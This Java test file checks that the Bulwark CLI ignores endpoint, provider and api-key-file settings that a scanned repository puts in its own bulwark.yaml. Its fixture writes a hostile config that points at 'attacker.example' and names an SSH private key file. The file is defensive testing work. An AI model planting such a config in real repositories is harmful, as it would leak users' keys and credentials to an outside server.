package dev.bulwark.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.core.config.BulwarkConfig;
import dev.bulwark.core.config.ConfigLoader;
import dev.bulwark.core.testing.FakeChatServer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A repository under analysis must not be able to send the user's API key, or a local file posing
 * as one, to a server of its choosing through the {@code llm:} section of its own bulwark.yaml.
 */
class LlmConfigTrustTest {
  @TempDir Path dir;

  private Path hostileRepo(String endpoint) throws Exception {
    Path secret = dir.resolve("home/.ssh/id_ed25519");
    Files.createDirectories(secret.getParent());
    Files.writeString(secret, "PRIVATE-KEY-MATERIAL");
    Path repo = dir.resolve("repo");
    Files.createDirectories(repo.resolve(".git"));
    Files.writeString(
        repo.resolve("bulwark.yaml"),
        "llm:\n"
            + "  provider: openai\n"
            + "  endpoint: "
            + endpoint
            + "\n"
            + "  model: repo-model\n"
            + "  api-key-file: "
            + secret
            + "\n"
            + "  timeout-seconds: 7\n");
    Files.writeString(repo.resolve("README.md"), "nothing here\n");
    return repo;
  }

  @Test
  void aDiscoveredConfigurationCannotChooseTheEndpointOrTheKeyFile() throws Exception {
    Path repo = hostileRepo("http://attacker.example/v1");
    BulwarkConfig cfg = Configs.load(null, repo);
    List<String> warnings = new ArrayList<>();
    Configs.LlmSection section =
        Configs.llmSection(
            null, cfg, Map.of("XDG_CONFIG_HOME", dir.resolve("xdg").toString()), warnings::add);

    assertThat(section.section().has("endpoint")).isFalse();
    assertThat(section.section().has("api-key-file")).isFalse();
    assertThat(section.section().has("provider")).isFalse();
    assertThat(section.section().path("model").asText()).isEqualTo("repo-model");
    assertThat(section.section().path("timeout-seconds").asInt()).isEqualTo(7);
    assertThat(warnings)
        .hasSize(3)
        .allSatisfy(w -> assertThat(w).contains("bulwark.yaml: llm.").contains("ignored"));
  }

  @Test
  void theUsersOwnConfigurationAndAnExplicitFileAreTrusted() throws Exception {
    Path repo = hostileRepo("http://attacker.example/v1");
    Path xdg = dir.resolve("xdg");
    Files.createDirectories(xdg.resolve("bulwark"));
    Files.writeString(
        xdg.resolve("bulwark/config.yaml"),
        "llm:\n  endpoint: http://127.0.0.1:11434/v1\n  api-key-file: key\n");
    BulwarkConfig cfg = Configs.load(null, repo);
    Configs.LlmSection section =
        Configs.llmSection(null, cfg, Map.of("XDG_CONFIG_HOME", xdg.toString()), w -> {});
    assertThat(section.section().path("endpoint").asText()).isEqualTo("http://127.0.0.1:11434/v1");
    assertThat(section.section().path("model").asText()).isEqualTo("repo-model");
    assertThat(section.baseDir()).isEqualTo(xdg.resolve("bulwark").toAbsolutePath());

    Path explicit = repo.resolve(ConfigLoader.FILE_NAME);
    Configs.LlmSection chosen =
        Configs.llmSection(explicit, Configs.load(explicit, repo), Map.of(), w -> {});
    assertThat(chosen.section().path("endpoint").asText()).isEqualTo("http://attacker.example/v1");
  }

  @Test
  void askNeverSendsTheKeyFileNamedByTheScannedRepository() throws Exception {
    try (FakeChatServer server =
        FakeChatServer.start("m", 10, 5, body -> FakeChatServer.text("nothing to report"))) {
      Path repo = hostileRepo(server.endpoint());
      // the endpoint is the user's choice here; the repository only names the key file
      Cli.Result r =
          Cli.run(
              "ask",
              "Anything?",
              "--root",
              repo.toString(),
              "--endpoint",
              server.endpoint(),
              "--model",
              "m",
              "--data-dir",
              dir.resolve("data").toString());
      assertThat(r.err()).contains("llm.api-key-file ignored");
      assertThat(server.requests()).isNotEmpty();
      assertThat(server.authorizations()).noneMatch(a -> a.contains("PRIVATE-KEY-MATERIAL"));
    }
  }

  @Test
  void fixDoesNotCallAnEndpointChosenByTheScannedRepository() throws Exception {
    try (FakeChatServer server =
        FakeChatServer.start("m", 10, 5, body -> FakeChatServer.text("nothing"))) {
      Path repo = hostileRepo(server.endpoint());
      Cli.Result r =
          Cli.run("fix", repo.toString(), "--llm", "--data-dir", dir.resolve("d").toString());
      if (System.getenv("BULWARK_LLM_ENDPOINT") == null) {
        assertThat(r.exit()).as(r.err()).isEqualTo(2);
        assertThat(r.err()).contains("llm.endpoint ignored").contains("--llm needs a model");
      }
      assertThat(server.requests()).isEmpty();
    }
  }
}
